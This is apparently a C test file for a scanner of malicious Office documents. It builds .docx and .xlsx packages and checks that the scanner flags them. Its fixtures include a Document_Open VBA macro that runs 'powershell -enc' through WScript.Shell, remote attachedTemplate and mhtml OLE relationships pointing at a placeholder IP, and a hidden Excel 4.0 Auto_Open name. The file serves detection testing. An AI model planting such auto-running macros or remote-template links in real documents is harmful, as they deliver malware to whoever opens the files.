/*
 * 2024-office-ooxml: OOXML packages built with zip: a .docx carrying a
 * VBA project (renamed macro document) and external template and OLE
 * object relationships; the same package as .docm; an .xlsx with an
 * Excel 4.0 macro sheet part and an _xlnm.Auto_Open name; a broken
 * package; a password-protected OOXML compound file.
 */
#include <unistd.h>

#include "office_t.h"

static struct findings	 fs;

static void
put_file(const char *dir, const char *name, const char *text)
{
	char	 p[4200], cmd[8600];

	ot_fmt(p, sizeof(p), "%s/%s", dir, name);
	ot_fmt(cmd, sizeof(cmd), "mkdir -p \"$(dirname '%s')\"", p);
	if (system(cmd) != 0)
		bail("mkdir for %s", p);
	ot_write(p, text, strlen(text));
}

static void
zipdir(const char *dir, const char *out)
{
	char	 cmd[8600];

	ot_fmt(cmd, sizeof(cmd), "cd '%s' && rm -f '%s' && zip -qr '%s' "
	    "'[Content_Types].xml' *", dir, out, out);
	if (ot_run(cmd) != 0)
		bail("zip %s", out);
}

int
main(void)
{
	struct ot_module m[] = {
		{ "ThisDocument", false, 2, "Attribute VB_Name = "
		    "\"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n"
		    "    CreateObject(\"WScript.Shell\").Run \"powershell -enc "
		    "AA\"\r\nEnd Sub\r\n" },
	};
	const char	*tmp;
	char		 pkg[4096], ole[4200], vba[4300], f[4400];

	alarm(60);
	tmp = tap_tmpdir("office-ooxml");
	ot_fmt(pkg, sizeof(pkg), "%s/docx", tmp);
	ot_fmt(ole, sizeof(ole), "%s/vbasrc", tmp);
	ot_fmt(vba, sizeof(vba), "%s/VBA", ole);
	ot_vba_project(vba, m, 1);
	ot_fmt(f, sizeof(f), "mkdir -p '%s/word'", pkg);
	if (system(f) != 0)
		bail("mkdir");
	ot_fmt(f, sizeof(f), "%s/word/vbaProject.bin", pkg);
	ot_createole(f, ole);
	put_file(pkg, "[Content_Types].xml",
	    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas."
	    "openxmlformats.org/package/2006/content-types\"><Override "
	    "PartName=\"/word/document.xml\" ContentType=\"application/"
	    "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>");
	put_file(pkg, "word/document.xml", "<w:document/>");
	put_file(pkg, "word/_rels/settings.xml.rels",
	    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
	    "openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats"
	    ".org/officeDocument/2006/relationships/attachedTemplate\" "
	    "Target=\"https://198.51.100.9/t.dotm\" TargetMode=\"External\"/>"
	    "</Relationships>");
	put_file(pkg, "word/_rels/document.xml.rels",
	    "<Relationships>"
	    "<Relationship Id='rId2' TargetMode='External' Target='mhtml:"
	    "http://198.51.100.9/o.html!x-usc:http://198.51.100.9/o.html' "
	    "Type='http://schemas.openxmlformats.org/officeDocument/2006/"
	    "relationships/oleObject'/>"
	    "<Relationship Id='rId3' Type='http://schemas.openxmlformats.org"
	    "/officeDocument/2006/relationships/hyperlink' Target="
	    "'https://example.com/' TargetMode='External'/>"
	    "<Relationship Id='rId4' Type='http://schemas.openxmlformats.org"
	    "/officeDocument/2006/relationships/oleObject' Target="
	    "'embeddings/oleObject1.bin'/>"
	    "</Relationships>");
	ot_fmt(f, sizeof(f), "%s/invoice.docx", tmp);
	zipdir(pkg, f);
	is_int(LW_OK, ot_scan_file(f, &fs), "docx: scans");
	ok(ot_find(&fs, "OFFICE_VBA", "ThisDocument") != NULL,
	    "docx: OFFICE_VBA from word/vbaProject.bin");
	{
		const struct finding *x = ot_find(&fs, "OFFICE_VBA_AUTOEXEC",
		    "module ThisDocument: Document_Open");

		ok(x != NULL && strcmp(x->part,
		    "invoice.docx/word/vbaProject.bin") == 0,
		    "docx: Document_Open, part names the vbaProject.bin");
	}
	ok(ot_find(&fs, "OFFICE_VBA_SUSPICIOUS", "powershell") != NULL,
	    "docx: powershell");
	ok(ot_find(&fs, "OFFICE_MACRO_RENAMED", NULL) != NULL,
	    "docx: macro document under .docx");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE",
	    "attachedTemplate in word/_rels/settings.xml.rels: "
	    "https://198.51.100.9/t.dotm") != NULL, "docx: remote template");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "oleObject") != NULL,
	    "docx: remote OLE object (mhtml:)");
	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "example.com") == NULL &&
	    ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "embeddings") == NULL,
	    "docx: hyperlinks and internal objects are not templates");
	ot_dump(&fs);

	ot_fmt(vba, sizeof(vba), "%s/invoice.docm", tmp);
	ot_fmt(f, sizeof(f), "cp '%s/invoice.docx' '%s'", tmp, vba);
	if (system(f) != 0)
		bail("cp");
	ot_scan_file(vba, &fs);
	ok(findings_has(&fs, "OFFICE_VBA") &&
	    !findings_has(&fs, "OFFICE_MACRO_RENAMED"),
	    "docm: macros expected under this name");

	/* Excel 4.0 macro sheet in OOXML, Auto_Open name. */
	ot_fmt(pkg, sizeof(pkg), "%s/xlsx", tmp);
	put_file(pkg, "[Content_Types].xml",
	    "<Types><Override PartName=\"/xl/macrosheets/sheet1.xml\" "
	    "ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
	    "</Types>");
	put_file(pkg, "xl/workbook.xml", "<workbook><definedNames>"
	    "<definedName name=\"Print_Area\">Sheet1!A1</definedName>"
	    "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1"
	    "</definedName></definedNames></workbook>");
	put_file(pkg, "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>");
	ot_fmt(f, sizeof(f), "%s/report.xlsx", tmp);
	zipdir(pkg, f);
	ot_scan_file(f, &fs);
	ok(ot_find(&fs, "OFFICE_XLM", "xl/macrosheets/sheet1.xml") != NULL,
	    "xlsx: macro sheet part");
	ok(ot_find(&fs, "OFFICE_XLM_AUTOEXEC", "_xlnm.Auto_Open") != NULL,
	    "xlsx: _xlnm.Auto_Open");
	ot_dump(&fs);

	/* A content type alone says macro sheet. */
	ot_fmt(f, sizeof(f), "rm -rf '%s/xl/macrosheets'", pkg);
	if (system(f) != 0)
		bail("rm");
	ot_fmt(f, sizeof(f), "%s/report2.xlsx", tmp);
	zipdir(pkg, f);
	ot_scan_file(f, &fs);
	ok(ot_find(&fs, "OFFICE_XLM", "content type") != NULL,
	    "xlsx: macrosheet content type");

	/* Not a zip after all. */
	ot_scan("broken.docx", (const unsigned char *)"PK\3\4garbage", 11,
	    &fs);
	ok(ot_find(&fs, "OFFICE_MALFORMED", "package") != NULL,
	    "broken package: OFFICE_MALFORMED");

	/* Password-protected OOXML: a compound file. */
	ot_fmt(pkg, sizeof(pkg), "%s/enc", tmp);
	put_file(pkg, "EncryptionInfo", "\x04\x00\x04\x00\x40\x00\x00\x00"
	    "<encryption/>");
	put_file(pkg, "EncryptedPackage", "\x10\x00\x00\x00\x00\x00\x00\x00"
	    "0123456789abcdef");
	ot_fmt(f, sizeof(f), "%s/secret.docx", tmp);
	ot_createole(f, pkg);
	ot_scan_file(f, &fs);
	ok(ot_find(&fs, "OFFICE_ENCRYPTED", "OOXML") != NULL,
	    "encrypted OOXML: OFFICE_ENCRYPTED");
	findings_free(&fs);
	return done_testing();
}
